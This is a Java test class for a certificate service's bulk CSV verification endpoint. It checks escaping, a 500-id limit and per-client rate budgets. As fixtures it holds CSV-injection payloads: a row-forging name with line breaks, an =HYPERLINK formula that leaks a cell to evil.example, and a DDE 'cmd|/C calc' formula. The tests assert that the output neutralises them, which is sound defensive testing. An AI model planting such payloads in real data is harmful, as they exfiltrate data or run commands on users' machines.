package org.peercert.verification;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import jakarta.servlet.Filter;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.peercert.PeerCertTest;
import org.peercert.certification.CertificateFixtures;
import org.peercert.certification.CertificateService;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.setup.MockMvcBuilders;
import org.springframework.web.context.WebApplicationContext;

/**
 * {@code POST /verify/bulk} through the real filter chains, on the real database: holder names that try to
 * forge rows or run as spreadsheet formulas come back as one inert cell each, the documented 500 ids are the
 * limit, and every id costs one look-up from the client's bulk budget.
 */
@PeerCertTest
class BulkVerificationTest {

    private static final String FORGED = "Mary\r\n7ZZZZZZZZZZZZZZZZZZZZZZZZZ,VALID,Mary Smith";
    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for details\")";
    private static final CSVFormat ANSWER = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();

    @Autowired WebApplicationContext context;
    @Autowired VerificationApiFilter verificationFilter;
    @Autowired JdbcTemplate jdbc;
    @Autowired Verification verification;
    @Autowired CertificateService certificates;

    private MockHttpServletResponse postBulk(String client, String csv) throws Exception {
        MockMvc mvc = MockMvcBuilders.webAppContextSetup(context)
                .addFilters(context.getBean("springSecurityFilterChain", Filter.class), verificationFilter).build();
        return mvc.perform(post("/verify/bulk").contentType("text/csv").content(csv.getBytes(StandardCharsets.UTF_8))
                .with(request -> {
                    request.setRemoteAddr(client);
                    return request;
                })).andReturn().getResponse();
    }

    /** Each test from an address of its own, so budgets never mix. */
    private static String newClient() {
        var id = UUID.randomUUID().getLeastSignificantBits();
        return "10." + (id & 0xff) + "." + ((id >> 8) & 0xff) + "." + (1 + (id >>> 16) % 250);
    }

    private static String junkIds(int count) {
        return IntStream.range(0, count).mapToObj(i -> "not-an-id-" + i).collect(Collectors.joining("\n", "", "\n"));
    }

    /** A certificate whose stored holder name predates the name rule (set directly, as old data would be). */
    private String certificateHeldBy(String storedName) {
        var issued = new CertificateFixtures(context).issue("Legacy Holder");
        jdbc.update("update certificate set holder_name = ? where id = ?", storedName, issued.id());
        return issued.id();
    }

    private String shown(String id) {
        return certificates.find(id).orElseThrow().groupedId();
    }

    @Test
    void holderNamesWithLineBreaksOrFormulasComeBackAsOneInertCellEach() throws Exception {
        String forged = certificateHeldBy(FORGED);
        String formula = certificateHeldBy(HYPERLINK);
        String command = certificateHeldBy("@SUM(1+1)*cmd|' /C calc'!A0");
        String plain = certificateHeldBy("Grace O'Neil, RN");
        String csv = "id\n" + forged + "\n" + formula + "\n+" + "1-555-0100\n" + command + "\n" + plain + "\n";

        MockHttpServletResponse response = postBulk(newClient(), csv);

        assertThat(response.getStatus()).isEqualTo(200);
        assertThat(response.getContentType()).startsWith("text/csv");
        List<CSVRecord> rows = ANSWER.parse(new StringReader(response.getContentAsString())).getRecords();
        assertThat(rows).extracting(r -> r.get("id")).containsExactly(shown(forged), shown(formula), "'+1-555-0100",
                shown(command), shown(plain));
        assertThat(rows).extracting(r -> r.get("status")).containsExactly("VALID", "VALID", "NOT_FOUND", "VALID", "VALID");
        assertThat(rows).extracting(r -> r.get("holder")).containsExactly(FORGED, "'" + HYPERLINK, "",
                "'@SUM(1+1)*cmd|' /C calc'!A0", "Grace O'Neil, RN");
        assertThat(rows).allSatisfy(row -> {
            assertThat(row.size()).isEqualTo(BulkVerification.HEADER.length);
            row.forEach(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                    .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
        });
    }

    @Test
    void aFileOfMoreThan500IdsIsRefusedWithAClearMessage() throws Exception {
        String client = newClient();
        MockHttpServletResponse refused = postBulk(client, junkIds(BulkVerification.MAX_ROWS + 1));
        assertThat(refused.getStatus()).isEqualTo(400);
        assertThat(refused.getContentAsString()).isEqualTo("This file has 501 ids; at most 500 ids per file.\n");

        MockHttpServletResponse withHeader = postBulk(client, "id\n" + junkIds(BulkVerification.MAX_ROWS));
        assertThat(withHeader.getStatus()).isEqualTo(200);
        assertThat(withHeader.getContentAsString().lines()).hasSize(1 + BulkVerification.MAX_ROWS);
    }

    @Test
    void everyIdIsChargedToTheClientsBulkBudget() throws Exception {
        // the configured budget: 1000 ids at once (two full files), then 60 ids a minute
        String client = newClient();
        assertThat(postBulk(client, junkIds(500)).getStatus()).isEqualTo(200);
        assertThat(postBulk(client, junkIds(500)).getStatus()).isEqualTo(200);

        MockHttpServletResponse slowDown = postBulk(client, junkIds(100));
        assertThat(slowDown.getStatus()).isEqualTo(429);
        assertThat(Long.parseLong(slowDown.getHeader("Retry-After"))).isPositive();
        assertThat(slowDown.getContentAsString()).startsWith("Too many look-ups from this address: these 100 ids can be checked in ");

        assertThat(postBulk(newClient(), junkIds(100)).getStatus()).as("another client has its own budget").isEqualTo(200);
    }

    @Test
    void theBudgetIsCountedInIdsNotRequests() {
        var bulk = new BulkVerification(verification, 1, 600); // one id a minute: nothing refills during the test
        assertThat(bulk.verify("192.0.2.50", junkIds(500))).isInstanceOf(BulkVerification.Statuses.class);
        assertThat(bulk.verify("192.0.2.50", junkIds(100))).isInstanceOf(BulkVerification.Statuses.class);
        assertThat(bulk.verify("192.0.2.50", junkIds(1))).isInstanceOfSatisfying(BulkVerification.SlowDown.class,
                slowDown -> assertThat(slowDown.retryAfterSeconds()).isBetween(1L, 60L));
        assertThat(bulk.verify("192.0.2.50", "id\n\n")).as("a file without ids costs nothing").isInstanceOf(BulkVerification.Statuses.class);
    }
}
